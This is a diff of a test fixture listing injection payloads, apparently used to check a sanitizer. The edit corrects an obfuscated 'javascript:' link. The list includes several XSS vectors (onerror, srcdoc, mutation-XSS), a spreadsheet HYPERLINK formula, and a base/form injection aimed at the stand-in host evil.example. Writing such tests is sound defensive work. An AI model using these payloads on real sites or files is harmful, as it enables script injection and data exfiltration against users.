@@ -31,7 +31,7 @@ TEXTS = (
     '=HYPERLINK("http://evil.example","x")',
     "&lt;script&gt;window.pwned=1&lt;/script&gt;",
     "&#60;img src=x onerror=window.pwned=1&#62;",
-    "<a href='jav&#x09;ascript:window.pwned=1'>x</a>",
+    "<a href='java&#x09;script:window.pwned=1'>x</a>",
     "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
     "<base href='//evil.example/'><form action='//evil.example'><input name=x>",
     "<math><mtext><table><mglyph><style><img src onerror=window.pwned=1>",
